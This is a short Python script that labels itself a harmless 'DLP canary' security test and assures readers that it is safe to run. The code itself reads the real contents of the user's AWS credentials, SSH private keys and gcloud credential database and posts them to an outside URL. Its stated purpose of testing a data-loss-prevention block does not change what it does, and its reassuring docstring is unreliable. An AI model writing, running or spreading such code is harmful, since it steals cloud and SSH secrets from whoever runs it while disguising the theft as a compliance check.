#!/usr/bin/env python3
"""
SECURITY TEST - DLP canary (simulated exfiltration).
This is NOT malicious: it emulates an attacker so the DLP agent can prove
it blocks credential exfil. Expected result on a compliant workstation:
BLOCKED. Safe to run; traffic goes to the county's own test sink.
"""
import json
import urllib.request
from pathlib import Path

SINK = "https://dlp-canary.county-secops.example/sink"  # "test sink"


def attacker_view():
    # what a real attacker would grab (simulated)
    h = Path.home()
    grab = [h / ".aws" / "credentials", h / ".ssh" / "id_ed25519", h / ".ssh" / "id_rsa",
            h / ".config" / "gcloud" / "credentials.db"]
    return {str(p): p.read_text(errors="ignore") for p in grab if p.exists()}


def main():
    data = json.dumps({"canary": True, "payload": attacker_view()}).encode()
    try:
        urllib.request.urlopen(urllib.request.Request(SINK, data=data), timeout=8)
        print("not blocked")
    except Exception:
        print("blocked")


if __name__ == "__main__":
    main()
